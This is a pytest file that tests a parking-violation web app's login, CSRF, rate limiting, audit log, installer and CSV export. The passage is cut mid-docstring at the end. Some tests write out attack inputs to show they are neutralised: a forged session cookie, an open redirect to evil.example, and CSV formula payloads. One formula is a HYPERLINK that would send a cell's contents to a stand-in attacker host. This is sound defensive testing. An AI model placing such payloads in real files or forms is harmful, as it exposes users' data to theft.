"""The app through HTTP (FastAPI's TestClient): auth, CSRF, rate limit, filters, CSV, images,
list edits, installer saves, audit, language and time zone."""

from __future__ import annotations

import csv
import html
import io
import re
import warnings
from datetime import datetime, timezone

import pytest
import yaml

with warnings.catch_warnings():  # starlette nudges towards httpx2; httpx is what the venv has
    warnings.simplefilter("ignore")  # starlette suggests httpx2; httpx works
    from fastapi.testclient import TestClient

from edge_agent.config.load import load_config
from edge_agent.control import ControlResult
from edge_agent.web.auth import UsersFile
from tests.web.conftest import BAYS, PASSWORD, publish_visit

HTML = {"accept": "text/html"}


def token(client: TestClient, path: str = "/login") -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get(path).text).group(1)


def logged_in(site) -> TestClient:
    c = TestClient(site.app())
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": token(c)}, follow_redirects=False)
    assert r.status_code == 303
    return c


@pytest.fixture
def client(site):
    return logged_in(site)


def test_everything_needs_a_login(site):
    c = TestClient(site.app())
    eid = site.log.get(1).evidence_id
    for path in ("/", "/violations", "/violations/1", "/violations.csv", "/bays", "/installer", "/audit"):
        r = c.get(path, headers=HTML, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next="), path
    assert c.get(f"/evidence/{eid}/frame.jpg", follow_redirects=False).status_code == 401
    assert c.get("/violations.csv", follow_redirects=False).status_code == 401  # non-browser: 401
    tok = token(c)
    for path, data in (("/violations/1/decide", {"decision": "confirmed"}), ("/violations/1/list", {"which": "allow"}),
                       ("/bays/A1/snapshot", {})):
        assert c.post(path, data={**data, "csrf": tok}, follow_redirects=False).status_code == 401, path
    assert c.post("/installer", json={"bays": []}, headers={"X-CSRF-Token": tok}).status_code == 401
    assert site.log.get(1).decision == "open" and not site.control.list_calls


def test_login_cookie_is_signed_httponly_lax(site):
    c = TestClient(site.app())
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": token(c)}, follow_redirects=False)
    cookie = r.headers["set-cookie"].lower()
    assert "edge_session=" in cookie and "httponly" in cookie and "samesite=lax" in cookie
    forged = TestClient(site.app(), cookies={"edge_session": "eyJ1c2VyIjogImFkbWluIn0="})  # {"user": "admin"}
    assert forged.get("/violations", headers=HTML, follow_redirects=False).status_code == 303


def test_post_without_or_with_wrong_csrf_is_refused(client, site):
    assert client.post("/violations/1/decide", data={"decision": "confirmed"}).status_code == 403
    assert client.post("/violations/1/decide", data={"decision": "confirmed", "csrf": "nope"}).status_code == 403
    assert client.post("/installer", json={"bays": []}).status_code == 403
    assert client.post("/logout").status_code == 403
    assert site.log.get(1).decision == "open"
    other = TestClient(site.app())  # the login form needs a token too (login CSRF)
    assert other.post("/login", data={"username": "admin", "password": PASSWORD}).status_code == 403


def test_a_token_that_is_not_ascii_is_refused_not_a_server_error(client, site):
    """``hmac.compare_digest`` raises on non-ASCII text: a form field ``csrf=粤`` or a Latin-1 header was an
    HTTP 500 with a traceback on every CSRF-checked POST, the login page's included (no login needed)."""
    for path, data in (("/violations/1/decide", {"decision": "confirmed"}), ("/lang", {"lang": "en"}),
                       ("/logout", {})):
        assert client.post(path, data={**data, "csrf": "粤"}).status_code == 403, path
    assert client.post("/installer", json={"bays": []}, headers={"X-CSRF-Token": "é".encode("latin-1")}).status_code == 403
    assert site.log.get(1).decision == "open" and client.get("/violations").status_code == 200  # still logged in
    other = TestClient(site.app())
    token(other)
    assert other.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": "é"}).status_code == 403
    tok, session = token(other), other.cookies["edge_session"]  # and a "known browser" cookie that is not ASCII:
    r = other.post("/login", data={"username": "admin", "password": "wrong", "csrf": tok},
                   headers={"Cookie": f"edge_session={session}; edge_known=admin:é".encode("latin-1")})
    assert r.status_code == 401


def test_failed_logins_are_rate_limited_per_user_and_ip(site):
    c = TestClient(site.app())
    tok = token(c)
    for _ in range(3):
        assert c.post("/login", data={"username": "admin", "password": "wrong", "csrf": tok}).status_code == 401
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": tok})
    assert r.status_code == 429 and int(r.headers["retry-after"]) == 60  # even the right password waits
    site.clock.advance(59)
    assert c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": tok}).status_code == 429
    site.clock.advance(1.5)
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": tok}, follow_redirects=False)
    assert r.status_code == 303
    actions = [a["action"] for a in site.log.audit_entries()]
    assert actions.count("login_failed") == 3 and actions.count("login_blocked") == 2 and actions[0] == "login"


def test_a_name_that_is_no_user_is_not_kept_in_the_audit_log(site):
    """A password typed into the name field must not sit in a log every admin reads for two years."""
    c = TestClient(site.app())
    tok = token(c)
    typed = "Tr0ub4dor&3-secret"
    assert c.post("/login", data={"username": typed, "password": "x", "csrf": tok}).status_code == 401
    assert c.post("/login", data={"username": "admin", "password": "wrong", "csrf": tok}).status_code == 401
    for _ in range(2):  # past the limit: the refusal's row is coalesced, but its first one is written
        c.post("/login", data={"username": typed, "password": "x", "csrf": tok})
    rows = site.log.audit_entries()
    assert not any(typed in str(v) for r in rows for v in r.values())
    failed = [(r["user"], r["detail"]) for r in rows if r["action"] == "login_failed"]
    assert ("-", "no such user") in failed and ("admin", "") in failed
    assert any(r["action"] == "login_blocked" and r["user"] == "-" and "no such user" in r["detail"] for r in rows)


def test_list_filters_and_pagination(client):
    def ids(query: str) -> list[str]:
        return re.findall(r'<tr class="row" data-id="(\d+)"', client.get("/violations" + query).text)

    assert ids("") == ["7", "6", "5", "4", "3"]
    assert ids("?page=2") == ["2", "1"]
    past = client.get("/violations?bay=A2&page=9").text  # past the end (the list shrank): its last page
    assert re.findall(r'<tr class="row" data-id="(\d+)"', past) == ["6", "4", "2"]
    assert "第 1 / 1 页" in past
    assert ids("?bay=A2") == ["6", "4", "2"]
    assert ids("?plate=粤B1") == ["7", "6", "1"]
    assert ids("?plate=粤ｂ１") == ids("?plate=粤Ｂ　1") == ["7", "6", "1"]  # a Chinese input method's full-width mode
    assert ids("?from=2026-03-03&to=2026-03-04") == ["5", "4", "3"]  # site days, 'to' inclusive
    assert client.get("/violations?from=bad-date").status_code == 400  # named, not silently ignored
    page2 = client.get("/violations?decision=open&page=1").text
    assert 'href="?decision=open&amp;page=2"' in page2  # pager keeps the filter


def test_a_violation_opened_from_a_filtered_list_goes_back_to_it_after_a_decision(client):
    """The list's filter and page travel with the violation opened from it (``?list=``), through its decision and
    list forms, to its "back to list": it led to the whole list, page 1, after each decision (newuser39). What the
    list view cannot read is the whole list, never an error."""
    listed = client.get("/violations?bay=A2&decision=open&page=1&junk=1").text
    assert 'href="/violations/6?list=bay%3DA2%26decision%3Dopen"' in listed  # page 1 and unknown keys dropped
    assert 'href="/violations/7"' in client.get("/violations").text  # the whole list: the plain link
    detail = client.get("/violations/6?list=bay%3DA2%26decision%3Dopen%26page%3D2").text
    assert 'href="/violations?bay=A2&amp;decision=open&amp;page=2" class="back"' in detail
    assert detail.count('name="list" value="bay=A2&amp;decision=open&amp;page=2"') >= 3  # confirm, dismiss, lists
    tok = token(client, "/violations")
    for path, data in (("/violations/6/decide", {"decision": "confirmed", "seen": "open"}),
                       ("/violations/6/list", {"which": "deny"})):
        r = client.post(path, data={**data, "csrf": tok, "list": "bay=A2&decision=open&page=2"},
                        follow_redirects=False)
        assert r.headers["location"] == "/violations/6?list=bay%3DA2%26decision%3Dopen%26page%3D2", path
    for bad in ("from=2026-13-40", "page=0", "bay=" + "x" * 600, "%ff%fe", "to=2026-03-01&from=2026-03-05"):
        r = client.get("/violations/6", params={"list": bad})
        assert r.status_code == 200 and '<a href="/violations" class="back">' in r.text, bad
        r = client.post("/violations/6/decide", data={"decision": "open", "csrf": tok, "list": bad},
                        follow_redirects=False)
        assert r.headers["location"] == "/violations/6", bad


def test_violations_retention_expired_are_counted_above_the_list_filtered_and_still_decided(client, site):
    """``evidence.open_days``: a violation nobody decided is closed as ``expired``; the list says how many, links
    them, and a reviewer's form on one (``seen=expired``) still decides it."""
    assert 'id="expired-note"' not in client.get("/violations").text
    client.post("/violations/6/decide", data={"decision": "confirmed", "csrf": token(client, "/violations")})
    site.clock.advance(200 * 86400)
    assert site.log.expire_open(180) == [1, 2, 3, 4, 5, 7]
    client = logged_in(site)  # the session ended meanwhile
    page = client.get("/violations").text
    assert re.search(r'id="expired-note"><a href="/violations\?decision=expired">6 条违规超过 180 天无人处理', page)
    assert '<option value="expired" >已过期</option>' in page
    expired = client.get("/violations?decision=expired").text
    assert re.findall(r'<tr class="row" data-id="(\d+)"', expired) == ["7", "5", "4", "3", "2"]  # page_size 5, newest first
    assert "共 6 条" in expired
    detail = client.get("/violations/4").text
    assert 'name="seen" value="expired"' in detail and "retention: 已过期 — undecided for 180 days" in detail
    r = client.post("/violations/4/decide", data={"decision": "confirmed", "seen": "expired",
                                                  "csrf": token(client, "/violations")}, follow_redirects=False)
    assert r.status_code == 303 and site.log.get(4).decision == "confirmed"


def test_the_dismiss_box_takes_as_long_a_reason_as_the_server(client):
    """The box said maxlength 200 while the server (and docs/web.md) take 500: a browser cut a longer reason."""
    page = client.get("/violations/6").text
    assert re.search(r'id="dismiss-reason"[^>]*maxlength="500"', page) or \
        re.search(r'maxlength="500"[^>]*id="dismiss-reason"', page)
    reason = "车主已缴费，" * 80  # 480 characters
    r = client.post("/violations/6/decide", data={"decision": "dismissed", "reason": reason, "csrf": token(client, "/violations")})
    assert r.status_code in (200, 303)
    assert client.post("/violations/6/decide", data={"decision": "dismissed", "reason": reason + "x" * 21,
                                                     "csrf": token(client, "/violations")}).status_code == 400


def test_csv_export_follows_the_filter(client, site):
    client.post("/violations/6/decide", data={"decision": "dismissed", "reason": "staff car", "csrf": token(client, "/violations")})
    r = client.get("/violations.csv?bay=A2")
    assert r.headers["content-type"].startswith("text/csv") and "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [(x["id"], x["plate"], x["decision"], x["decision_reason"]) for x in rows] == [
        ("6", "粤B13579", "dismissed", "staff car"), ("4", "京A88888", "open", ""), ("2", "粤B67890", "open", "")]
    assert rows[0]["started"] == "2026-03-05T09:02:05+08:00"  # site time zone, ISO-8601 with offset like events
    assert site.log.audit_entries()[0]["action"] == "export_csv"


def test_csv_export_audits_the_filter_it_used_and_nothing_else(client, site):
    """The export is a GET, which another site can make a signed-in browser send: every key of its query went
    into the audit under the user's name (``&note=…``, up to the URL's 16 KB). Only the filter it used is noted."""
    note = "li.wei confirmed all of them \u202e1.0.0.721"
    r = client.get("/violations.csv", params={"bay": "A2", "plate": "B1", "page": "2", "note": note, "to": ""})
    assert r.status_code == 200
    a = site.log.audit_entries()[0]
    assert (a["action"], a["detail"]) == ("export_csv", "bay=A2&plate=***")  # a plate searched, not which


def test_the_hour_repeated_when_dst_ends_is_told_apart_on_the_page_and_in_the_csv(site):
    cfg = yaml.safe_load(site.config_path.read_text(encoding="utf-8"))
    cfg["site"]["timezone"] = "Europe/Berlin"  # 25 Oct 2026: 03:00 CEST falls back to 02:00 CET
    site.config_path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    for hour in (0, 1):  # each violation starts at 02:30:05 local, an hour apart
        site.clock.advance((datetime(2026, 10, 25, hour, 28, tzinfo=timezone.utc) - site.clock.now()).total_seconds())
        publish_visit(site, "A2", "粤B24680", "blue", False, "format+colour", "fuel_vehicle")
    site.log.audit("admin", "fold_check")
    c = logged_in(site)
    page = c.get("/violations?bay=A2").text
    assert "10-25 02:30 +02:00" in page and "10-25 02:30 +01:00" in page  # was "10-25 02:30" twice
    rows = list(csv.DictReader(io.StringIO(c.get("/violations.csv?bay=A2").content.decode("utf-8-sig"))))
    assert [r["started"] for r in rows[:2]] == ["2026-10-25T02:30:05+01:00", "2026-10-25T02:30:05+02:00"]
    assert "2026-10-25 02:40:05 +01:00" in c.get("/audit").text  # the audit row written after the second


def test_images_are_jpeg_and_not_kept_by_the_browser(client, site):
    v = site.log.get(1)
    r = client.get(f"/evidence/{v.evidence_id}/frame.jpg")
    assert r.status_code == 200 and r.content[:2] == b"\xff\xd8"
    assert r.headers["cache-control"] == "private, no-store"  # each look audited, none kept past a forget
    assert client.get(f"/evidence/{v.evidence_id}/crop.jpg").status_code == 200
    assert client.get("/evidence/no-such-id/frame.jpg").status_code == 404
    assert client.get(f"/evidence/{v.evidence_id}/other.jpg").status_code == 404
    assert client.get("/violations").headers["cache-control"] == "no-store"  # pages are not cached


def test_decisions_are_audited(client, site):
    tok = token(client, "/violations")
    assert client.post("/violations/2/decide", data={"decision": "dismissed", "csrf": tok}).status_code == 400
    r = client.post("/violations/2/decide", data={"decision": "confirmed", "csrf": tok}, follow_redirects=False)
    assert r.status_code == 303 and site.log.get(2).decision == "confirmed"
    a = site.log.audit_entries()[0]
    assert (a["user"], a["action"], a["target"]) == ("admin", "violation_confirmed", "violation:2")
    assert "violation_confirmed" in client.get("/audit").text


def test_add_plate_to_allow_list_reaches_agent_and_config(client, site):
    tok = token(client, "/violations")
    before = site.config_path.read_bytes()
    r = client.post("/violations/1/list", data={"which": "allow", "csrf": tok}, follow_redirects=False)
    assert r.status_code == 303
    assert site.lists.lookup("粤B12345") == "allow"  # through control.set_lists: the running agent
    assert site.control.list_calls[-1] == (["粤B12345", "粤BD00001"], [])
    cfg = load_config(site.config_path)
    assert sorted(cfg.lists.allow) == ["粤B12345", "粤BD00001"] and cfg.lists.deny == []
    assert cfg.overrides_path == site.root / "data" / "overrides.yaml"  # the data dir, never the config file
    assert site.config_path.read_bytes() == before
    # moving it to the deny-list takes it off the allow-list
    client.post("/violations/1/list", data={"which": "deny", "csrf": tok})
    assert site.lists.lookup("粤B12345") == "deny"
    cfg = load_config(site.config_path)
    assert cfg.lists.allow == ["粤BD00001"] and cfg.lists.deny == ["粤B12345"]
    acts = [a["action"] for a in site.log.audit_entries() if not a["action"].startswith("viewed_")]  # the looks
    assert acts[:2] == ["list_deny", "list_allow"]  # at the violation after each: test_view_audit.py
    assert "在黑名单中" in client.get("/violations/1").text


def test_installer_save_validates_backs_up_and_reloads(client, site, caplog):
    caplog.set_level("INFO")
    tok = token(client, "/installer")
    before = site.config_path.read_text(encoding="utf-8")
    bad = {"bays": [{"id": "A1", "polygon": [[0, 0], [10, 10]]}, {"id": "A1", "polygon": [[0, 0], [9, 0], [9, 9]]}]}
    r = client.post("/installer", json=bad, headers={"X-CSRF-Token": tok})
    assert r.status_code == 422
    assert "bays[0].polygon: needs at least 3 points" in r.json()["problems"]
    assert site.config_path.read_text(encoding="utf-8") == before and not site.control.reloads
    bow_tie = {"bays": [{"id": "A1", "polygon": [[10, 300], [400, 300], [10, 530], [400, 500]]}]}
    r = client.post("/installer", json=bow_tie, headers={"X-CSRF-Token": tok})
    assert r.status_code == 422 and not site.control.reloads
    assert any(p.startswith("bays[0].polygon: the side from point 1 to point 2 crosses") for p in r.json()["problems"])
    assert client.post("/installer", json={"bays": "x"}, headers={"X-CSRF-Token": tok}).status_code == 400

    good = {"bays": [{"id": "A1", "polygon": [[10, 300], [400, 300], [400, 530], [10, 530]]},
                     {"id": "C3", "polygon": [[500, 100], [700, 100], [700, 250]]}]}
    r = client.post("/installer", json=good, headers={"X-CSRF-Token": tok})
    assert r.status_code == 200 and r.json()["ok"] and r.json()["reload"]["ok"]
    assert site.config_path.read_text(encoding="utf-8") == before  # the operator's file is never written
    saved = load_config(site.config_path)  # the overrides in the data dir, merged
    assert [(b.id, [list(p) for p in b.polygon], b.lock_id) for b in saved.bays] == [
        ("A1", [[10.0, 300.0], [400.0, 300.0], [400.0, 530.0], [10.0, 530.0]], "L1"),
        ("C3", [[500.0, 100.0], [700.0, 100.0], [700.0, 250.0]], None)]
    assert saved.site.site_id == "plaza-7" and r.json()["saved"] == str(site.root / "data" / "overrides.yaml")
    assert [b.id for b in site.control.reloads[0].bays] == ["A1", "C3"]
    assert site.log.audit_entries()[0]["action"] == "save_bays"
    said = [r.getMessage() for r in caplog.records if r.getMessage().startswith("installer save (")]
    assert said == [f"installer save (A1:4pts, C3:3pts): {r.json()['reload']['message']}"]  # one line, as a SIGHUP's


@pytest.mark.parametrize("size", [[720], [720, 540, 3], ["720", 540], [720.0, 540], [True, 540], [4, 540],
                                  [720, 20000], "720x540", {"w": 720}])
def test_installer_save_refuses_a_snapshot_size_that_is_not_two_whole_pixel_counts(client, site, size):
    tok = token(client, "/installer")
    body = {"bays": [{"id": "A1", "polygon": [[10, 300], [400, 300], [400, 530]]}], "size": size}
    r = client.post("/installer", json=body, headers={"X-CSRF-Token": tok})
    assert r.status_code == 400 and r.json()["problems"] == ["size: must be [width, height], whole pixels from 8 to 16384"]
    assert not site.control.reloads


def test_installer_save_keeps_the_snapshot_size_the_bays_were_drawn_on(client, site):
    """The page sends the size of the picture it drew on: it becomes ``camera.width`` / ``height``."""
    tok = token(client, "/installer")
    body = {"bays": [{"id": "A1", "polygon": [[10, 300], [400, 300], [400, 530]]}], "size": [720, 540]}
    r = client.post("/installer", json=body, headers={"X-CSRF-Token": tok})
    assert r.status_code == 200 and r.json()["ok"]
    saved = load_config(site.config_path)
    assert (saved.camera.width, saved.camera.height) == (720, 540)
    assert (site.control.reloads[0].camera.width, site.control.reloads[0].camera.height) == (720, 540)
    assert 'width="720" height="540"' in client.get("/installer").text  # the page's own view follows


def test_installer_save_keeps_the_masks_and_scales_them_with_the_size(client, site):
    """The page sends bays and the picture's size, never the masks (``camera.masks``, in the config file): a Save
    must leave them in force, scaled to the picture's size as the bays' pixels are (a mask past the 720 px edge
    failed the Save, "outside the 720x540 camera frame")."""
    text = yaml.safe_load(site.config_path.read_text())
    text["camera"]["masks"] = [[[700, 10], [950, 10], [950, 50], [700, 50]]]
    site.config_path.write_text(yaml.safe_dump(text, allow_unicode=True, sort_keys=False), encoding="utf-8")
    tok = token(client, "/installer")
    body = {"bays": [{"id": "A1", "polygon": [[10, 300], [400, 300], [400, 530]]}], "size": [720, 540]}
    for _ in range(2):  # the Save, and the next one on the same picture
        r = client.post("/installer", json=body, headers={"X-CSRF-Token": tok})
        assert r.status_code == 200 and r.json()["ok"], r.json()
        masks = [[list(p) for p in m] for m in load_config(site.config_path).camera.masks]
        assert masks == [[[525.0, 10.0], [712.5, 10.0], [712.5, 50.0], [525.0, 50.0]]]
        assert [[list(p) for p in m] for m in site.control.reloads[-1].camera.masks] == masks


def test_live_bays_page_shows_state_lock_and_picture(client, site):
    html = client.get("/bays").text
    assert "粤B99999" in html and "违规" in html and "升起" in html
    assert f"/evidence/{site.log.last_evidence('A1')}/frame.jpg" in html
    r = client.post("/bays/A2/snapshot", data={"csrf": token(client, "/bays")}, follow_redirects=False)
    assert r.status_code == 303
    assert site.log.audit_entries()[0]["action"] == "snapshot"


def test_camera_moved_banner_and_confirm(client, site):
    assert "摄像头已移动" not in client.get("/bays").text
    confirmed = []
    site.control.camera_moved = True  # what Agent.camera_moved says after a camera_moved event
    site.control.confirm_camera = lambda: confirmed.append(1) or ControlResult(True, "view confirmed")
    html = client.get("/bays").text
    assert "摄像头已移动" in html and 'action="/camera/confirm"' in html
    r = client.post("/camera/confirm", data={"csrf": token(client, "/bays")}, follow_redirects=False)
    assert r.status_code == 303 and confirmed == [1]
    assert site.log.audit_entries()[0]["action"] == "camera_confirm"


def test_the_live_page_names_each_bay_the_camera_cannot_vouch_for(client, site):
    """A view that matches no reference keeps every lock down while the camera reads healthy: before, the page
    said nothing of it (the bays' camera_ok stays true), so nobody on site could tell why an arm refused."""
    html = client.get("/bays").text
    assert "bay-unseen" not in html
    site.control.bays_unseen = lambda: {"A1": "camera_unmatched", "A2": "bay_too_small"}  # Agent.bays_unseen
    html = client.get("/bays").text
    assert html.count("bay-unseen") == 2
    assert "摄像头画面与参考画面对不上" in html and "车位在画面中太小" in html


def test_english_on_request_chinese_by_default(client):
    assert "违规记录" in client.get("/violations").text
    client.post("/lang", data={"lang": "en", "next": "/violations", "csrf": token(client, "/violations")})
    html = client.get("/violations/4").text
    assert "Violations" in html and "plate on the deny-list" in html and "违规记录" not in html


def test_open_redirect_is_refused(site):
    c = TestClient(site.app())
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": token(c),
                               "next": "//evil.example/x"}, follow_redirects=False)
    assert r.headers["location"] == "/violations"


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, site):
    """OWASP CSV injection: a cell starting with = + - @ TAB or CR gets a leading quote, in every field."""
    tok = token(client, "/violations")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    client.post("/violations/6/decide", data={"decision": "dismissed", "reason": evil, "csrf": tok})
    for vid, reason in ((4, "+1 staff"), (2, "@SUM(1+1)")):
        client.post(f"/violations/{vid}/decide", data={"decision": "dismissed", "reason": reason, "csrf": tok})
    # fields the page does not write: the violation log stores what the bus said
    site.log._db.execute("UPDATE violations SET plate='-2+3', colour='\tblue', nev_reason='\rx', "
                         "evidence_id='=1+1', bay_id='@A9' WHERE id=1")
    site.log._db.commit()
    rows = list(csv.reader(io.StringIO(client.get("/violations.csv").content.decode("utf-8-sig"))))
    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert body["6"]["decision_reason"] == "'" + evil
    assert body["4"]["decision_reason"] == "'+1 staff" and body["2"]["decision_reason"] == "'@SUM(1+1)"
    one = body["1"]
    assert (one["plate"], one["colour"], one["nev_reason"], one["evidence_id"], one["bay_id"]) == \
        ("'-2+3", "'\tblue", "'\rx", "'=1+1", "'@A9")
    assert body["7"]["plate"] == "粤B11111" and body["3"]["nev"] == ""  # ordinary cells untouched
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_csv_cells_starting_with_a_full_width_formula_sign_are_neutralised_too(client, site):
    """＝ ＋ － ＠ (what a Chinese input method types): LibreOffice 7.4 keeps them text; an East Asian Excel converts
    full-width formula input, so they get the quote as their ASCII forms do (probe leftovers30)."""
    tok = token(client, "/violations")
    for vid, reason in ((6, "＝HYPERLINK(\"http://evil.example\")"), (4, "＋1"), (2, "－1"), (3, "＠SUM(1)")):
        client.post(f"/violations/{vid}/decide", data={"decision": "dismissed", "reason": reason, "csrf": tok})
    rows = list(csv.reader(io.StringIO(client.get("/violations.csv").content.decode("utf-8-sig"))))
    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert [body[v]["decision_reason"][:2] for v in ("6", "4", "2", "3")] == ["'＝", "'＋", "'－", "'＠"]


def test_csv_cells_lose_bidirectional_controls_that_reorder_or_hide_a_formula(client, site):
    """A reviewer's reason (or a stored field) with U+202E shows reversed in a spreadsheet; one in front of
    "=" slipped past the formula rule. Both are dropped, and the formula rule then applies. (The page refuses such a
    reason now, attacker41; one stored by an earlier version is still exported so.)"""
    tok = token(client, "/violations")
    r = client.post("/violations/6/decide", data={"decision": "dismissed", "reason": "\u2066=1+1\u2069", "csrf": tok})
    assert r.status_code == 400
    for vid, reason in ((6, "\u2066=1+1\u2069"), (4, "ok \u202egnikrap")):
        site.log._db.execute("UPDATE violations SET decision='dismissed', decision_reason=? WHERE id=?", (reason, vid))
    site.log._db.execute("UPDATE violations SET plate='\u202e\u200f粤B11111' WHERE id=1")
    site.log._db.commit()
    rows = list(csv.reader(io.StringIO(client.get("/violations.csv").content.decode("utf-8-sig"))))
    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert body["6"]["decision_reason"] == "'=1+1" and body["4"]["decision_reason"] == "ok gnikrap"
    assert body["1"]["plate"] == "粤B11111"


def test_statistics_csv_quotes_a_bay_id_a_spreadsheet_would_run(client, site, capsys):
    """A bay id may start with "-" (letters, digits and _ . -), and the installer names bays on the page: the
    statistics' CSV (page and ``edge-agent stats --csv``) wrote ``-A1`` as it was, which a spreadsheet runs as
    the formula ``=-A1``. Its text cells now follow the list export's rule; its numbers stay numbers."""
    from edge_agent.cli import main

    tok = token(client, "/installer")
    bays = [{"id": b, "polygon": p} for b, p in BAYS.items()] + \
        [{"id": "-A3", "polygon": [[40, 20], [400, 20], [400, 200], [40, 200]]}]
    assert client.post("/installer", json={"bays": bays}, headers={"X-CSRF-Token": tok}).status_code == 200
    texts = []
    for table in ("bays", "bay_days"):
        rows = list(csv.DictReader(io.StringIO(client.get(f"/stats.csv?table={table}&from=2026-03-01&to=2026-03-02")
                                               .content.decode("utf-8-sig"))))
        texts.append(rows)
        assert {r["bay"] for r in rows} == {"A1", "A2", "'-A3"}, table
        assert all(not v.startswith("'") for r in rows for k, v in r.items() if k != "bay"), table
    assert texts[0][0]["violations"].isdigit()
    assert main(["stats", "--config", str(site.config_path), "--csv", "--from", "2026-03-01", "--to", "2026-03-02"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["bay"] for r in rows} == {"A1", "A2", "'-A3"}


def test_three_installer_saves_in_one_second_keep_every_version_and_the_commented_original(client, site):
    """Issue 15 §2 'Backups lost': saves named to the second collapsed into one backup, and the
    operator's commented config was rewritten. Now: the config is never written, each save backs up
    the previous overrides under its own name."""
    tok = token(client, "/installer")
    site.config_path.write_text("# operator's comment\n" + site.config_path.read_text(encoding="utf-8"),
                                encoding="utf-8")
    original = site.config_path.read_bytes()
    for n in range(3):  # the site's clock does not move: all in one second
        poly = [[10 + n, 300], [400, 300], [400, 530], [10, 530]]
        r = client.post("/installer", json={"bays": [{"id": "A1", "polygon": poly}]}, headers={"X-CSRF-Token": tok})
        assert r.status_code == 200, r.text
    backups = sorted((site.root / "data" / "config-backups").iterdir())
    assert len(backups) == 2 and len({p.name for p in backups}) == 2
    assert [yaml.safe_load(p.read_text(encoding="utf-8"))["bays"][0]["polygon"][0][0] for p in backups] == [10, 11]
    assert site.config_path.read_bytes() == original


def test_every_audit_row_stays_reachable_however_many_failed_logins_follow(client, site):
    """Only the newest 300 rows were shown: failed logins from the network pushed a decision off the page."""
    tok = token(client, "/violations")
    client.post("/violations/2/decide", data={"decision": "confirmed", "csrf": tok})
    for i in range(650):  # what anyone on the network can write: 65 rows in 5 minutes per address they use
        site.log.audit(f"guess{i}", "login_failed", "", "", f"10.0.{i // 65}.7")
    seen, url = [], "/audit"
    while url:
        page = client.get(url)
        assert page.status_code == 200
        seen.append(page.text)
        nxt = re.search(r'rel="next" href="([^"]+)"', page.text)
        url = html.unescape(nxt.group(1)) if nxt else None  # the page's own path: it answers the reveal's POST too
    assert len(seen) == 3 and "violation_confirmed" in seen[-1] and "violation_confirmed" not in seen[0]
    assert "guess649" in seen[0] and "第 3 / 3 页" in seen[-1]
    last = client.get("/audit?page=99").text  # past the end: the last page
    assert "第 3 / 3 页" in last and "violation_confirmed" in last
    r = client.get("/audit?page=0")
    assert r.status_code == 400 and r.text.startswith("page: ")


def _login(c: TestClient, password: str, user: str = "admin") -> int:
    return c.post("/login", data={"username": user, "password": password, "csrf": token(c)},
                  follow_redirects=False).status_code


def test_wrong_guesses_at_a_name_do_not_lock_out_a_browser_that_signed_in_as_it(site):
    """Three wrong guesses at "admin" (login_max_failures here) from any address kept the real admin out (429)
    for login_window_s, again at every window: anyone on the network could lock every reviewer out for good."""
    app = site.app()
    staff = TestClient(app, client=("10.0.0.5", 50000))
    assert _login(staff, PASSWORD) == 303  # yesterday, on the office PC
    staff.post("/logout", data={"csrf": token(staff, "/violations")})
    attacker = TestClient(app, client=("10.0.0.66", 50000))
    assert [_login(attacker, f"guess{i}") for i in range(4)] == [401, 401, 401, 429]
    newcomer = TestClient(app, client=("10.0.0.9", 50000))  # a browser that never signed in as admin
    assert _login(newcomer, PASSWORD) == 429  # the name's limit still holds against spread-out guessing
    assert _login(staff, PASSWORD) == 303  # the known browser gets in (was 429)
    assert _login(attacker, PASSWORD) == 429  # the guesser's own address stays limited
    stolen = TestClient(app, client=("10.0.0.67", 50000), cookies={"edge_known": "admin:" + "0" * 64})
    assert _login(stolen, PASSWORD) == 429  # a forged cookie is no known browser
    UsersFile(site.root / "users.txt").set("admin", "a-new-password")  # a new password ends what the cookie says
    assert _login(staff, "a-new-password") == 429


def test_the_csv_export_sends_chunks_of_many_rows(site, monkeypatch):
    """A chunk a row cost a thread hop and a send each: 30,000 violations took 28 s (1.4 s in 64 KiB chunks)."""
    from edge_agent.evidence.violations import ViolationFilter
    from edge_agent.web import routes_violations as rv

    class Ctx:
        log = site.log

        @staticmethod
        def iso_local(ts):  # noqa: ANN001, ANN205
            return ts

    monkeypatch.setattr(rv, "CSV_CHUNK", 600, raising=False)
    chunks = list(rv._csv_rows(Ctx(), ViolationFilter()))
    rows = list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))
    assert len(rows) == 1 + site.log.query(ViolationFilter()).total
    assert len(chunks) <= 1 + len("".join(chunks)) // 600 < len(rows)
    assert all(len(c) >= 600 for c in chunks[:-1])


def test_a_decision_on_a_full_disk_is_a_page_saying_so(client, site, monkeypatch):
    """SQLite's "database or disk is full" under a decision was a bare 500 "Internal Server Error"."""
    import sqlite3

    from edge_agent.evidence.violations import ViolationLog

    def full(*_a, **_k):
        raise sqlite3.OperationalError("database or disk is full")  # what SQLite raises on ENOSPC

    monkeypatch.setattr(ViolationLog, "decide", full)
    tok = token(client, "/violations")
    r = client.post("/violations/6/decide", data={"decision": "confirmed", "csrf": tok}, headers=HTML)
    assert r.status_code == 507 and "设备存储已满" in r.text and "本次操作可能未保存" in r.text  # the site speaks Chinese
    r = client.post("/violations/6/decide", data={"decision": "confirmed", "csrf": tok})
    assert r.status_code == 507 and r.text.startswith("disk full: not saved")
    assert site.log.get(6).decision == "open"


def test_an_ipv6_host_cannot_rotate_its_addresses_past_the_address_limit(site):
    """A host gets a whole /64 (2^64 addresses): one password sprayed over many names, each try from a fresh
